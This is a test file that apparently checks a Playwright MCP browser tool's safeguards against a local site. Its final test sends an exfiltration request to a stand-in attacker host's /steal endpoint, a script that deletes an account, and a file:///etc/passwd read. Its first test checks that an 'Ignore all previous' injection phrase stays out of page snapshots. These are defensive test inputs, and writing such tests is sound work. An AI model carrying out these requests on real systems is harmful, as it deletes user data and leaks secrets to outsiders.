import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Served } from '../cli-process.ts';
import { McpClient } from '../support/mcp-client.ts';
import { PLAYWRIGHT_MCP_PROGRAM } from '../support/mcp-servers.ts';
import { ATTACKER, SITE, startWorkSite, type WorkSite } from './work-site.ts';

let site: WorkSite;
let served: Served;
let mcp: McpClient;

beforeAll(async () => {
  site = await startWorkSite();
  served = await site.serve();
  mcp = await McpClient.start(process.execPath, [PLAYWRIGHT_MCP_PROGRAM, '--cdp-endpoint', served.cdp]);
});
afterAll(async () => {
  mcp?.close();
  await served?.stop();
  await site?.close();
});

async function done(tool: string, args: Readonly<Record<string, unknown>> = {}): Promise<string> {
  const { isError, text } = await mcp.call(tool, args);
  expect(isError, text).toBe(false);
  return text;
}

/** The reference of an element in a new snapshot, by role and name. */
async function refOf(role: string, name: string): Promise<string> {
  const text = await done('browser_snapshot');
  const ref = new RegExp(`${role} "${name}".*?\\[ref=(\\w+)\\]`).exec(text)?.[1];
  expect(ref, `${role} "${name}" in ${text}`).toBeDefined();
  return ref ?? '';
}

it('navigates, reads, clicks, answers a dialog and takes a picture', async () => {
  await done('browser_navigate', { url: `${SITE}/` });
  const text = await done('browser_snapshot');
  expect(text).toContain('Add one');
  expect(text).not.toContain('Ignore all previous');
  await done('browser_click', { element: 'Add one', target: await refOf('button', 'Add one') });
  expect(await done('browser_snapshot')).toContain('counted 1');
  await done('browser_click', { element: 'Ask me', target: await refOf('button', 'Ask me') });
  await done('browser_handle_dialog', { accept: true });
  expect(await done('browser_snapshot')).toContain('answered true');
  const { pictures } = await mcp.call('browser_take_screenshot', {});
  expect(pictures).toHaveLength(1);
});

it('works in tabs', async () => {
  await done('browser_click', { element: 'link', target: await refOf('link', 'Open the second page') });
  expect(await done('browser_tabs', { action: 'list' })).toContain('Second');
  await done('browser_tabs', { action: 'select', index: 0 });
  await done('browser_tabs', { action: 'new' });
});

it('fills in a form and sends it', async () => {
  await done('browser_navigate', { url: `${SITE}/form` });
  await done('browser_type', { element: 'Name', target: await refOf('textbox', 'Name'), text: 'Ada' });
  await done('browser_select_option', { element: 'Size', target: await refOf('combobox', 'Size'), values: ['large'] });
  await done('browser_click', { element: 'Gift', target: await refOf('checkbox', 'Gift') });
  await done('browser_click', { element: 'Send', target: await refOf('button', 'Send the form') });
  await expect.poll(() => site.requests.at(-1)).toBe('POST work.test/order name=Ada&size=large&gift=on');
});

it('cannot be talked into anything that the task does not need', async () => {
  await done('browser_navigate', { url: `${SITE}/` });
  expect(await done('browser_navigate', { url: `${ATTACKER}/steal?a=1` })).toContain('refused');
  await done('browser_navigate', { url: `${SITE}/` });
  const script = `async () => Promise.allSettled([fetch('/account', { method: 'DELETE' }), fetch('${ATTACKER}/steal', { mode: 'no-cors' })])`;
  await done('browser_evaluate', { function: script });
  await mcp.call('browser_navigate', { url: 'file:///etc/passwd' });
  expect(await done('browser_snapshot')).not.toContain('root:');
  expect(
    site.requests.filter((each) => !each.startsWith('GET work.test') && !each.startsWith('POST work.test/order')),
  ).toEqual([]);
});
